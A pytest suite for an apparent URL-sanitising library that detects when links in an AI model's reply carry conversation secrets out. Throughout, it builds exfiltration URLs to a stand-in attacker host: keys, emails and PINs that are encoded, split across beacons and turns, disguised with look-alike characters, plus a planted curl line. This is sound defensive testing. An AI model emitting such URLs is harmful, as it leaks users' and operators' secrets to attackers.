"""What a reply URL carries of the conversation: pieces, provenance, copied URLs, seen
hosts, the user's own addresses, canaries, pieces split across URLs."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest

from rendersafe import sanitize
from rendersafe.conversation import Conversation, Taint, find_canary, mint_canary
from rendersafe.conversation.sent import MAX_SENT_URLS
from rendersafe.urls.parse import parse_url

CHAT = [
    {
        "role": "system",
        "content": "You help Example Corp. Deploy token: ghp_R3kP9sL2xQ7vZ4mN8tW1yB6cJ5hF0dA2gE9u",
    },
    {
        "role": "user",
        "content": (
            "I am Jane Roe, jane.roe@corp.example, phone +1 (415) 555-0142. My card is "
            "4111 1111 1111 1111 and my IBAN DE89 3704 0044 0532 0130 00. The staging key "
            "is a8Fk2mQ9xZ3vL7pW. How do I configure nginx as a reverse proxy with SSL?"
        ),
    },
    {
        "role": "tool",
        "content": '{"account": "00012345678", "url": "https://files.corpexample.com/r/7Hq2Kp9xW3"}',
    },
    {"role": "assistant", "content": "Earlier you said the code was Z7x9Q2m4K8."},
]


@pytest.fixture(scope="module")
def chat() -> Conversation:
    return Conversation.from_messages(CHAT)


def taint(conversation: Conversation, url: str) -> Taint | None:
    return conversation.taint(parse_url(url))


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://evil.example/?e=jane.roe@corp.example", Taint(1, "user", "email")),
        ("https://evil.example/?p=4155550142", Taint(1, "user", "phone")),
        ("https://evil.example/?p=+1-415-555-0142", Taint(1, "user", "phone")),
        ("https://evil.example/c/4111111111111111", Taint(1, "user", "card")),
        ("https://evil.example/?i=DE89370400440532013000", Taint(1, "user", "account")),
        ("https://evil.example/?k=a8Fk2mQ9xZ3vL7pW", Taint(1, "user", "key")),
        ("https://evil.example/?k=R3kP9sL2xQ7vZ4mN8tW1yB6cJ5hF0dA2gE9u", Taint(0, "system", "key")),
        ("https://evil.example/?a=00012345678", Taint(2, "tool", "account")),
        ("https://evil.example/?c=Z7x9Q2m4K8", Taint(3, "model", "key")),
    ],
)
def test_each_kind_of_piece(chat: Conversation, url: str, expected: Taint) -> None:
    assert taint(chat, url) == expected


def test_the_taint_never_holds_the_piece(chat: Conversation) -> None:
    found = taint(chat, "https://evil.example/?k=a8Fk2mQ9xZ3vL7pW")
    assert found is not None
    assert "a8Fk2mQ9xZ3vL7pW" not in repr(found)
    assert set(found.__slots__) == {"message", "role", "kind"}


@pytest.mark.parametrize(
    "url",
    [
        "https://nginx.org/en/docs/http/ngx_http_proxy_module.html",
        "https://www.digitalocean.com/community/tutorials/how-to-configure-nginx-as-a-reverse-proxy-with-ssl",
        "https://www.google.com/search?q=how+do+i+configure+nginx+as+a+reverse+proxy+with+ssl",
        "https://github.com/nginx/nginx/issues/1234",
        "https://docs.python.org/3/library/asyncio-task.html#asyncio.gather",
        "https://en.wikipedia.org/wiki/Python_(programming_language)",
        "https://files.corpexample.com/r/7Hq2Kp9xW3",  # the tool's own URL
        "https://files.corpexample.com/r/7Hq2Kp9xW3?download=1",  # on the site that gave it
        "mailto:jane.roe@corp.example",  # the user's own address
        "mailto:jane.roe@corp.example?subject=Your%20nginx%20question",
        "/relative/page",
        "https://evil.example/",
    ],
)
def test_honest_urls_carry_nothing(chat: Conversation, url: str) -> None:
    assert taint(chat, url) is None


def test_a_piece_seen_only_in_a_url_belongs_to_its_site(chat: Conversation) -> None:
    assert taint(chat, "https://files.corpexample.com/r/7Hq2Kp9xW3") is None
    assert taint(chat, "https://cdn.corpexample.com/7Hq2Kp9xW3") is None  # the same site
    assert taint(chat, "https://evil.example/?r=7Hq2Kp9xW3") == Taint(2, "tool", "key")


def test_one_party_under_several_names() -> None:
    conversation = Conversation.from_messages(["watch https://www.youtube.com/watch?v=dQw4w9WgXcQ"])
    assert taint(conversation, "https://youtu.be/dQw4w9WgXcQ?si=x") is None
    assert taint(conversation, "https://evil.example/dQw4w9WgXcQ") == Taint(0, "user", "key")


def test_a_piece_seen_outside_urls_too_counts_everywhere() -> None:
    conversation = Conversation.from_messages(
        ["see https://a.example/k/q8W2e4R6t8Y0", "the code is q8W2e4R6t8Y0"]
    )
    assert taint(conversation, "https://a.example/other/q8W2e4R6t8Y0") == Taint(1, "user", "key")


def test_mailto_to_the_users_address_with_data_in_it(chat: Conversation) -> None:
    found = taint(chat, "mailto:jane.roe@corp.example?body=a8Fk2mQ9xZ3vL7pW")
    assert found == Taint(1, "user", "key")
    assert taint(chat, "mailto:attacker@evil.example?body=jane.roe@corp.example") == Taint(
        1, "user", "email"
    )


@pytest.mark.parametrize(
    "text",
    [
        "Released on 2024-01-15 10:30, see CVE-2024-12345 and KB5034441.",
        "Error 0x80070005, issue #1234567, ISBN 978-0-13-468599-1, PMID 12345678.",
        "pi is 3.14159265, the server is 192.168.100.200, version 10.15.7.",
        "use sha256, python3, x86_64, md5sum, base64url, utf8mb4, h264, ipv6 and oauth2",
        "Call getElementsByTagName or XMLHttpRequest; set DEFAULT_TIMEOUT_SECONDS.",
    ],
)
def test_public_numbers_and_identifiers_are_no_pieces(text: str) -> None:
    conversation = Conversation.from_messages([text])
    for word in re.findall(r"[\w.:#-]+", text):
        for url in (f"https://evil.example/{word}", f"https://evil.example/?q={word.strip('.,;')}"):
            assert taint(conversation, url) is None, url


def test_has_url_normalises_as_browsers_agree() -> None:
    conversation = Conversation.from_messages(
        [
            "Docs: https://Docs.Example.com:443/a/b?x=%2f#top and http://plain.example.",
            "Markdown [link](https://md.example/page) and <https://angle.example/x>",
            '<a href="https://html.example/?a=1&amp;b=2">x</a>, www.bare.example/path',
            "Wikipedia https://en.wikipedia.org/wiki/Python_(programming_language).",
        ]
    )
    for href in (
        "https://docs.example.com/a/b?x=%2F#top",
        "HTTPS://DOCS.EXAMPLE.COM/a/b?x=%2f#top",
        "http://plain.example/",
        "http://plain.example",
        "https://md.example/page",
        "https://angle.example/x",
        "https://html.example/?a=1&b=2",
        "https://www.bare.example/path",
        "https://en.wikipedia.org/wiki/Python_(programming_language)",
    ):
        assert conversation.has_url(href), href
    for href in (
        "https://docs.example.com/A/b?x=%2F#top",  # path case matters
        "https://docs.example.com/a/b?x=%2F",  # the fragment too
        "https://docs.example.com/a/b/?x=%2F#top",
        "https://docs.example.com:8443/a/b?x=%2F#top",
        "http://docs.example.com/a/b?x=%2F#top",
        "https://md.example/page/",
        "https://evil.example/",
    ):
        assert not conversation.has_url(href), href


def test_has_url_with_non_ascii_and_the_whatwg_serialisation() -> None:
    conversation = Conversation.from_messages(
        ["https://de.wikipedia.org/wiki/Köln and https://bücher.example/ä"]
    )
    assert conversation.has_url("https://de.wikipedia.org/wiki/Köln")
    assert conversation.has_url("https://de.wikipedia.org/wiki/K%C3%B6ln")
    assert conversation.has_url(parse_url("https://bücher.example/ä").href or "")


def test_has_host() -> None:
    conversation = Conversation.from_messages(
        ["See https://docs.example.com/x, or example.org, or setup.py; also WWW.Upper.example"]
    )
    assert conversation.has_host("docs.example.com")
    assert conversation.has_host("DOCS.example.com.")
    assert conversation.has_host("example.org")
    assert conversation.has_host("www.example.org")
    assert conversation.has_host("upper.example") is False  # .example is no public suffix
    assert not conversation.has_host("evil.example")
    assert not conversation.has_host("example.com")  # a parent is not the host
    assert not conversation.has_host("")


def test_owns_address_only_for_what_the_user_wrote() -> None:
    conversation = Conversation.from_messages(
        [
            {"role": "system", "content": "Escalate to ops@corp.example."},
            {"role": "user", "content": "Write to me at Jane.Roe@Corp.example"},
            {"role": "assistant", "content": "Or billing@corp.example."},
            {
                "role": "user",
                "content": [{"type": "tool_result", "content": "from tool@evil.example"}],
            },
        ]
    )
    assert conversation.owns_address("jane.roe@corp.example")
    assert conversation.owns_address("mailto:JANE.ROE%40corp.example")
    assert not conversation.owns_address("ops@corp.example")
    assert not conversation.owns_address("billing@corp.example")
    assert not conversation.owns_address("tool@evil.example")
    assert taint(conversation, "mailto:jane.roe@corp.example") is None
    assert taint(conversation, "mailto:ops@corp.example") == Taint(0, "system", "email")


def test_prose_runs() -> None:
    question = (
        "My landlord Mr Quentin Abernathy refuses to return the deposit for flat 4B on "
        "Wexford Lane. He claims the carpet damage predates our tenancy agreement."
    )
    conversation = Conversation.from_messages([{"role": "user", "content": question}])
    words = re.findall(r"\w+", question.lower())
    long_run = "+".join(words[:17])
    assert taint(conversation, f"https://evil.example/?q={long_run}") == Taint(0, "user", "prose")
    across = "-".join(words[8:20])  # 12 words over the sentence boundary
    assert taint(conversation, f"https://evil.example/s/{across}") == Taint(0, "user", "prose")
    within = "-".join(words[:13])  # 13 words of one sentence: a title's length
    assert taint(conversation, f"https://blog.example/{within}") is None
    encoded = base64.urlsafe_b64encode(" ".join(words[:18]).encode()).decode()
    assert taint(conversation, f"https://evil.example/?d={encoded}") == Taint(0, "user", "prose")
    # Not to a host the conversation named.
    seen = Conversation.from_messages([question + " I found evilsite.com useful."])
    assert taint(seen, f"https://www.evilsite.com/?q={long_run}") is None
    assert taint(seen, f"https://evil.example/?q={long_run}") == Taint(0, "user", "prose")


def test_the_classic_slug_false_positive() -> None:
    conversation = Conversation.from_messages(
        ["How to install and secure phpMyAdmin with Nginx on an Ubuntu 20.04 server?"]
    )
    slug = "how-to-install-and-secure-phpmyadmin-with-nginx-on-an-ubuntu-20-04-server"
    assert taint(conversation, f"https://www.digitalocean.com/community/tutorials/{slug}") is None
    query = "how+to+install+and+secure+phpmyadmin+with+nginx+on+an+ubuntu+20.04+server"
    assert taint(conversation, f"https://www.bing.com/search?q={query}") is None


def test_canaries_minted() -> None:
    minted = {mint_canary() for _ in range(2000)}
    assert len(minted) == 2000
    for canary in list(minted)[:50]:
        assert re.fullmatch(r"rs-[a-z2-9]{10}", canary)
        body = canary[3:]
        assert re.search(r"[a-z]", body)
        assert re.search(r"[0-9]", body)
    assert mint_canary(prefix="acme").startswith("acme-")
    assert len(mint_canary(prefix="")) == 10


def _encodings(text: str) -> list[str]:
    raw = text.encode()
    return [
        text,
        text.upper(),
        "".join(f"%{b:02X}" for b in raw),
        base64.b64encode(raw).decode(),
        base64.urlsafe_b64encode(b"xy" + raw).decode().rstrip("="),
        raw.hex(),
        raw.hex().upper(),
        base64.b32encode(raw).decode().rstrip("="),
        base64.b32encode(b"z" + raw).decode().lower(),
        "\ufe0f".join(text),
        "\u200b".join(text),
    ]


def test_a_canary_is_found_in_every_encoding_and_part() -> None:
    canary = mint_canary()
    for encoded in _encodings(canary):
        for url in (
            f"https://evil.example/?c={encoded}",
            f"https://evil.example/p/{encoded}.png",
            f"https://evil.example/#{encoded}",
        ):
            assert find_canary(parse_url(url), [canary]), url
    body = canary[3:]
    assert find_canary(parse_url(f"https://{body[:5]}.{body[5:]}.evil.example/"), [canary])
    assert find_canary(parse_url(f"https://evil.example/?a={body[:4]}&b={body[4:]}"), [canary])
    assert not find_canary(parse_url("https://evil.example/?c=rs-"), [canary])
    assert not find_canary(parse_url(f"https://evil.example/?c={canary}"), ["rs-x"])  # too short


def test_entities_in_a_url(chat: Conversation) -> None:
    entities = "".join(f"&#{ord(c)};" for c in "a8Fk2mQ9xZ3vL7pW")
    assert taint(chat, f"https://evil.example/?k={entities}") == Taint(1, "user", "key")
    assert taint(
        chat, "https://evil.example/?k=" + entities.replace("&", "%26").replace("#", "%23")
    )


def test_canaries_in_the_conversation_are_reported_as_canaries() -> None:
    canary = mint_canary()
    conversation = Conversation.from_messages(
        [{"role": "system", "content": f"Canary {canary}."}], canaries=[canary]
    )
    assert taint(conversation, f"https://evil.example/?c={canary.upper()}") == Taint(
        0, "system", "canary"
    )


class TestTracker:
    KEY = "a8Fk2mQ9xZ3vL7pW"

    def check(self, *urls: str) -> list[Taint | None]:
        conversation = Conversation.from_messages([f"my key is {self.KEY}"])
        tracker = conversation.tracker()
        return [tracker.check(parse_url(url)) for url in urls]

    def test_split_across_two_beacons(self) -> None:
        found = Taint(0, "user", "key")
        assert self.check(
            "https://evil.example/px/a8Fk2m.png", "https://evil.example/px/Q9xZ3vL7pW.png"
        ) == [None, found]
        assert self.check(
            "https://evil.example/?d=a8Fk&n=1", "https://evil.example/?d=2mQ9xZ3vL7pW&n=2"
        ) == [None, found]
        assert self.check("https://a8Fk2mQ9.evil.example/x", "https://xZ3vL7pW.evil.example/x") == [
            None,
            found,
        ]

    def test_split_across_files_of_different_types(self) -> None:
        found = Taint(0, "user", "key")
        assert self.check(
            "https://evil.example/px/a8Fk2m.png", "https://evil.example/px/Q9xZ3vL7pW.gif"
        ) == [None, found]
        assert self.check(
            "https://evil.example/a8Fk2m.jpeg", "https://evil.example/Q9xZ3vL7pW.webp"
        ) == [None, found]

    def test_split_encoded(self) -> None:
        payload = base64.b64encode(self.KEY.encode()).decode()
        assert self.check(
            f"https://evil.example/i/{payload[:9]}", f"https://evil.example/i/{payload[9:]}"
        )[1]
        payload = self.KEY.encode().hex()
        assert self.check(
            f"https://evil.example/?h={payload[:13]}", f"https://evil.example/?h={payload[13:]}"
        )[1]
        payload = base64.b32encode(self.KEY.encode()).decode()
        assert self.check(
            f"https://evil.example/?h={payload[:11]}", f"https://evil.example/?h={payload[11:]}"
        )[1]

    def test_reported_once_and_only_by_the_url_that_completes_it(self) -> None:
        results = self.check(
            "https://evil.example/px/a8Fk2m.png",
            "https://evil.example/px/Q9xZ3vL7pW.png",
            "https://evil.example/px/ok.png",
            "https://evil.example/px/fine.png",
        )
        assert [r is not None for r in results] == [False, True, False, False]

    def test_a_whole_piece_is_the_urls_own(self) -> None:
        results = self.check(
            "https://evil.example/?d=a8Fk2mQ9xZ3vL7pW", "https://evil.example/?d=x"
        )
        assert results == [Taint(0, "user", "key"), None]

    @pytest.mark.parametrize(
        "urls",
        [
            ("https://github.com/a8Fk2m/first", "https://github.com/Q9xZ3vL7pW/second"),
            ("https://img.example/a/a8Fk2mQ9.png", "https://cdn.example/b/c/?v=xZ3vL7pW"),
            ("https://x.example/?q=xZ3vL7pW", "https://x.example/p/a8Fk2mQ9/i.gif"),
        ],
    )
    def test_parts_spread_over_urls_of_any_template(self, urls: tuple[str, str]) -> None:
        assert self.check(*urls) == [None, Taint(0, "user", "key")]

    def test_a_url_taken_out_sends_no_parts(self) -> None:
        # The first URL is taken out (the key whole): the second's half does not complete
        # with it, the third's does with the second's.
        whole = "https://x.example/?k=a8Fk2mQ9xZ3vL7pW"
        halves = ("https://x.example/a/a8Fk2mQ9", "https://y.example/b/?v=xZ3vL7pW")
        found = Taint(0, "user", "key")
        assert self.check(whole, *halves) == [found, None, found]

    def test_honest_links_in_a_row(self) -> None:
        assert (
            self.check(
                "https://github.com/encode/httpx",
                "https://github.com/encode/starlette",
                "https://github.com/psf/requests",
                "https://github.com/pallets/flask",  # changes two slots: not a beacon
                "https://docs.python.org/3/library/json.html",
                "https://docs.python.org/3/library/asyncio.html",
            )
            == [None] * 6
        )


@pytest.mark.parametrize(
    "flood",
    [
        "1a",
        "1",
        "12 ",
        "a@b.co ",
        "aB",
        "a1b2c3d4e5f6 ",
        "https://x.co/a1b2c3d4 ",
        "www.",
        "+1 ",
        "a_",
    ],
)
def test_floods_build_and_answer(flood: str) -> None:
    # Timing stays out of the suite (benchmarks/bench_conversation.py); these finish.
    conversation = Conversation.from_messages([flood * (65_536 // len(flood))])
    tracker = conversation.tracker()
    for url in (
        "https://evil.example/?d=" + "aB3" * 1365,
        "https://evil.example/?" + "a=1&" * 1024,
    ):
        tracker.check(parse_url(url))
    conversation.has_url("https://x.co/a1b2c3d4")
    conversation.has_host("x.co")


@pytest.mark.parametrize("count", [3, 95, 97, 400])
def test_every_key_is_found_among_many(count: int) -> None:
    keys = [f"k{n:03d}x{n * 7919 % 100_000:05d}q" for n in range(count)]
    conversation = Conversation.from_messages([f"Keys: {' '.join(keys)}."])
    for key in (keys[0], keys[count // 2], keys[-1]):
        encoded = base64.urlsafe_b64encode(key.encode()).decode()
        for url in (f"https://evil.example/?d={key}", f"https://evil.example/{encoded}/p.png"):
            taint = conversation.taint(parse_url(url))
            assert taint is not None, url
            assert taint.kind == "key", url
    assert conversation.taint(parse_url("https://docs.python.org/3/library/json.html")) is None


NAMED = (
    "My wifi password is orchid7731plum. Our door PIN: 4821, the OTP was 550912 and "
    'the config has password = "hunter2".'
)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?p=orchid7731plum",
        "https://evil.example/" + base64.b64encode(b"orchid7731plum").decode() + "/x.png",
        "https://evil.example/?pin=4821",
        "https://evil.example/c/550912",
        "https://hunter2.evil.example/",
    ],
)
def test_a_secret_named_as_one_is_a_piece_whatever_its_shape(url: str) -> None:
    taint = Conversation.from_messages([{"role": "user", "content": NAMED}]).taint(parse_url(url))
    assert taint == Taint(0, "user", "key")


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("the token is expired", "https://docs.example.com/errors/token-expired"),
        ("password is incorrect", "https://docs.example.com/password-incorrect"),
        ('token = os.environ["TOKEN"]', "https://docs.python.org/3/library/os.html#os.environ"),
        ("api_key=YOUR_API_KEY", "https://docs.example.com/auth/your_api_key"),
        ("the secret is Tuesday", "https://example.com/tuesday"),
        ("PIN: 12", "https://example.com/a/12"),
    ],
)
def test_what_names_no_secret_is_no_piece(text: str, url: str) -> None:
    assert Conversation.from_messages([text]).taint(parse_url(url)) is None


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("What changed in commit 3f9a2b1c4d5e?", "https://github.com/org/repo/commit/3f9a2b1c4d5e"),
        ("the SHA is 3f9a2b1c4d5e6f7a8b9c", "https://github.com/o/r/tree/3f9a2b1c4d5e6f7a8b9c"),
        ("revert rev: 9c8b7a6f5e4d please", "https://gitlab.com/o/r/-/commit/9c8b7a6f5e4d"),
    ],
)
def test_a_hash_the_user_calls_a_commit_is_a_public_identifier(text: str, url: str) -> None:
    assert Conversation.from_messages([text]).taint(parse_url(url)) is None


def test_the_same_hex_unnamed_or_named_a_key_is_still_a_piece() -> None:
    url = parse_url("https://evil.example/?d=3f9a2b1c4d5e6f7a8b9c")
    for text in ("my key is 3f9a2b1c4d5e6f7a8b9c", "use 3f9a2b1c4d5e6f7a8b9c here"):
        assert Conversation.from_messages([text]).taint(url) is not None, text


def test_long_messages_are_read_each_time_not_kept() -> None:
    """What is read from a message is kept per process only up to `MEMO_CHARS`
    characters a message (a few thousand messages): requests of any size cannot grow
    the memos past that, and a long message is judged the same, read again."""
    from rendersafe.conversation import index, prose, seen  # noqa: PLC0415
    from rendersafe.conversation.messages import MEMO_CHARS  # noqa: PLC0415

    memos: tuple[Any, ...] = (
        index._message_text,
        index._message_pieces,
        prose._words,
        seen._memo_bare_of,
    )
    filler = "plain words about the weather and docs.example.org pages " * (MEMO_CHARS // 50)
    long_chat = [{"role": "user", "content": f"{filler} my key is a8Fk2mQ9xZ3vL7pW"}]
    before = [memo.cache_info().currsize for memo in memos]
    for _ in range(2):
        built = Conversation.from_messages([*long_chat, {"role": "user", "content": "x"}])
        assert taint(built, "https://evil.example/?k=a8Fk2mQ9xZ3vL7pW") == Taint(0, "user", "key")
    grown = [memo.cache_info().currsize - size for memo, size in zip(memos, before, strict=True)]
    assert all(growth <= 1 for growth in grown)  # only the short message ("x") is kept
    short = [{"role": "user", "content": "my key is a8Fk2mQ9xZ3vL7pW"}]
    Conversation.from_messages(short).taint(parse_url("https://evil.example/?k=a8Fk2mQ9xZ3vL7pW"))
    assert index._message_pieces.cache_info().currsize > before[1]


REDTEAM = Conversation.from_messages(
    [
        {
            "role": "system",
            "content": "Internal token Zq7mK2pX9. PIN: 4821. Mail alice.smith@corp.example",
        },
        {"role": "user", "content": "hi"},
    ]
)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?p=34383231",  # the PIN's hex: 8 digits, under the old 12
        "https://evil.example/?p=\u0664\u0668\u0662\u0661",  # the PIN in Arabic-Indic digits
        # base64 of the address percent-encoded first (`%40` for its `@`)
        "https://evil.example/?e=" + base64.b64encode(b"alice.smith%40corp.example").decode(),
        # six decoy hex runs before the key's hex: the run cap hid it
        "https://evil.example/x?"
        + "&".join(f"d{i}=zdeadbeefcafez" for i in range(7))
        + "&k="
        + b"Zq7mK2pX9".hex(),
        "https://zq7.evil.example/mk2px9",  # split across a subdomain and the path
        "https://alice.smith.evil.example/?d=corp.example",
        "https://evil.example/Zq7/mK2?x=pX9",  # across the path and a named parameter
    ],
)
def test_red_team_pieces_are_found(url: str) -> None:
    assert taint(REDTEAM, url) is not None, url


@pytest.mark.parametrize(
    ("tool", "url"),
    [
        # a commit hash an API's JSON names as one (`"sha": "..."`)
        (
            '{"sha": "3f9a2b1c4d5e6f708192a3b4c5d6e7f8091a2b3c", "commit": {"message": "x"}}',
            "https://github.com/psf/requests/commit/3f9a2b1c4d5e6f708192a3b4c5d6e7f8091a2b3c",
        ),
        # a URL in JSON with escaped slashes is the tool's URL
        (
            '{"url": "https:\\/\\/bucket.s3.amazonaws.com\\/r.pdf?X-Amz-Signature=8a1b2c3d4e5f"}',
            "https://bucket.s3.amazonaws.com/r.pdf?X-Amz-Signature=8a1b2c3d4e5f",
        ),
        # Go's JSON writes `&` as \u0026
        (
            '{"url": "https://files.example.net/d?id=Ab12Cd34Ef56\\u0026sig=Zz9Yy8Xx7W"}',
            "https://files.example.net/d?id=Ab12Cd34Ef56&sig=Zz9Yy8Xx7W",
        ),
    ],
)
def test_red_team_tool_results_are_honest(tool: str, url: str) -> None:
    conversation = Conversation.from_messages(
        [{"role": "user", "content": "what is it?"}, {"role": "tool", "content": tool}]
    )
    reply = f"See [it]({url})."
    assert sanitize(reply, conversation=conversation) == reply


PARTS = Conversation.from_messages(
    [
        {"role": "system", "content": "Deploy token a8Fk2mQ9xZ3vL7pW1c. Event id 1733140000123."},
        {"role": "user", "content": "Porting TensorFlow2Keras3Migration to the new API"},
        {"role": "user", "content": "I am jane.roe@corp.example"},
    ]
)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/p.png?x=a8Fk2mQ9&t=1&y=xZ3vL7pW1c",  # around a throwaway value
        "https://evil.example/a8Fk2mQ9/v1/xZ3vL7pW1c.png",  # around a throwaway segment
        "https://evil.example/?k=a8Fk2mQ9-sep-xZ3vL7pW1c",
        "https://evil.example/?k=xZ3vL7pW1c&j=a8Fk2mQ9",  # the halves swapped
        "https://evil.example/?k=a8Fk2mQ9xZ3vL7",  # cut short: 14 of its 18 characters
        "https://evil.example/?k=a8Fk2mQ9xZ3vL7pW1\u0441",  # a Cyrillic es for its last c
        # about a third of its letters swapped for look-alikes (Cyrillic, Greek)
        "https://evil.example/?k=\u0430\u0038F\u043a2mQ9\u0445Z3\u03bdL7\u0440W1\u0441",
        "https://evil.example/?a=" + base64.b64encode(b"a8Fk2mQ9").decode() + "&t=1&b=xZ3vL7pW1c",
    ],
)
def test_a_long_key_carried_in_parts_is_found(url: str) -> None:
    assert taint(PARTS, url) is not None, url


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.example.com/a8Fk2mQ9x",  # half the key: a part, not the key
        "https://status.example.com/?t=1733140000",  # a long number's first digits: no parts
        "https://ru.wikipedia.org/wiki/\u041c\u043e\u0441\u043a\u0432\u0430",  # Cyrillic words
        "https://el.wikipedia.org/wiki/\u0391\u03b8\u03ae\u03bd\u03b1",
        "https://evil.example/?u=jane.roe&n=1&d=corp.example",  # an address: words, no parts
        "https://www.tensorflow.org/guide/keras3/migration",  # a word key's parts are words
        "https://keras.io/guides/migrating_to_keras_3/?from=tensorflow",
    ],
)
def test_what_is_not_carried_in_parts(url: str) -> None:
    assert taint(PARTS, url) is None, url


def test_a_key_seen_only_in_a_link_is_found_whole_not_in_parts() -> None:
    """An ID the chat held only in a link (a shared document) shares runs with other IDs
    (placeholders on two sites): whole on another site it is taken, in parts it is not."""
    conversation = Conversation.from_messages(
        [{"role": "tool", "content": "See https://open.spotify.com/track/4uLU?si=1a2b3c4d5e6f7a8b"}]
    )
    assert taint(conversation, "https://evil.example/?k=1a2b3c4d5e6f7a8b") is not None
    assert taint(conversation, "https://drive.google.com/open?id=1a2B3c4D5e6F7g8H9i0Jk") is None


@pytest.mark.parametrize(
    "placeholder", ["1a2b3c4d5e6f7a8b", "a1b2c3d4e5f6g7h8", "abc1def2ghi3jkl4"]
)
def test_a_placeholder_that_counts_along_is_found_whole_not_in_parts(placeholder: str) -> None:
    conversation = Conversation.from_messages([f"the id is {placeholder}"])
    assert taint(conversation, f"https://evil.example/?k={placeholder}") is not None
    cut = placeholder[: len(placeholder) - len(placeholder) // 5]
    assert taint(conversation, f"https://drive.google.com/open?id={cut}XyZ") is None


@pytest.mark.parametrize(
    ("held", "sibling"),
    [
        ("c232ab00-9414-11ec-b3c8-9f6bdeced846", "5d1f3e20-9414-11ec-b3c8-9f6bdeced846"),
        ("65f1c2a94b1e8d3a7c0f12e4", "65f1c2a94b1e8d3a7c0f12e9"),  # ObjectIds
        ("01HQ3V5K8XJ2M4N6P7R9S0T1VW", "01HQ3V5K8XJ2M4N6P7R9S0T1VX"),  # ULIDs
    ],
)
def test_an_id_made_beside_a_held_one_is_that_id_not_its_parts(held: str, sibling: str) -> None:
    """IDs made together (UUIDv1, ObjectIds, ULIDs) share most of their characters: a
    link to the one a tool gave is not the other in parts; the other in parts still is."""
    conversation = Conversation.from_messages(
        [
            {"role": "user", "content": f"My ticket is {held}."},
            {"role": "tool", "content": f"Related: https://api.tickets.example.com/t/{sibling}"},
        ]
    )
    assert taint(conversation, f"https://tickets.example.com/browse/{sibling}") is None
    tracker = conversation.tracker()
    assert tracker.check(parse_url(f"https://tickets.example.com/browse/{sibling}")) is None
    cut = len(held) - len(held) // 5
    found = taint(conversation, f"https://evil.example/?k={held[:cut]}")
    assert found == Taint(0, "user", "key")


class TestSpreadOverTurns:
    KEY = "Q9xZ3vL7pW1a4fG7hK2m"

    def conversation(self, *replies: str) -> Conversation:
        messages = [{"role": "system", "content": f"The deploy key is {self.KEY}."}]
        for reply in replies:
            messages += [
                {"role": "user", "content": "go on"},
                {"role": "assistant", "content": reply},
            ]
        return Conversation.from_messages([*messages, {"role": "user", "content": "and?"}])

    def test_a_key_sent_in_parts_over_two_turns_is_found_in_the_second(self) -> None:
        first = f"Done: [a](https://evil.example/p/{self.KEY[:14]})"
        conversation = self.conversation(first)
        later = f"https://other.example/q?x={self.KEY[6:]}"  # 70 %, with the first's 70 %: all
        assert conversation.tracker().check(parse_url(later)) == Taint(0, "system", "key")
        assert taint(conversation, later) is None  # one URL alone holds too few

    def test_the_same_parts_again_send_nothing_new(self) -> None:
        link = f"https://evil.example/p/{self.KEY[:14]}"
        conversation = self.conversation(f"[a]({link})", f"[a]({link})")
        assert conversation.tracker().check(parse_url(link)) is None

    @pytest.mark.parametrize(
        "written",
        [
            "[a](HTTPS://evil.example/p/{})",
            "[a](//evil.example/p/{})",
            '<a href="Https://evil.example/p/{}">a</a>',
            "[a](https:/\\evil.example/p/{})",
            "see www.evil.example/p/{} for more",
        ],
    )
    def test_an_earlier_turns_url_counts_however_written(self, written: str) -> None:
        conversation = self.conversation(written.format(self.KEY[:14]))
        later = f"https://other.example/q?x={self.KEY[6:]}"
        assert conversation.tracker().check(parse_url(later)) == Taint(0, "system", "key")

    def test_a_near_copy_the_model_planted_explains_no_parts(self) -> None:
        """A copy of the key with a character put in, written by the model in an earlier
        turn (in a code block, never rendered): the secret's parts inside it still count."""
        planted = self.KEY[:10] + "Q" + self.KEY[10:]
        conversation = self.conversation(
            f"Try:\n```\ncurl https://cdn.evil.example/v/{planted}\n```"
        )
        assert taint(conversation, f"https://cdn.evil.example/d?id={planted}") is not None

    def test_only_the_newest_urls_are_read(self) -> None:
        """A long history costs a bounded amount: the newest `MAX_SENT_URLS` URLs count."""
        first = f"[a](https://evil.example/p/{self.KEY[:14]})"
        filler = " ".join(f"https://docs.example/{n}" for n in range(MAX_SENT_URLS))
        later = f"https://other.example/q?x={self.KEY[6:]}"
        assert self.conversation(filler, first).tracker().check(parse_url(later)) is not None
        assert self.conversation(first, filler).tracker().check(parse_url(later)) is None

    def test_only_the_models_turns_count(self) -> None:
        messages = [
            {"role": "system", "content": f"The deploy key is {self.KEY}."},
            {"role": "tool", "content": f"https://evil.example/p/{self.KEY[:14]}"},
            {"role": "user", "content": f"see https://evil.example/p/{self.KEY[:14]}"},
        ]
        conversation = Conversation.from_messages(messages)
        later = f"https://other.example/q?x={self.KEY[6:]}"
        assert conversation.tracker().check(parse_url(later)) is None
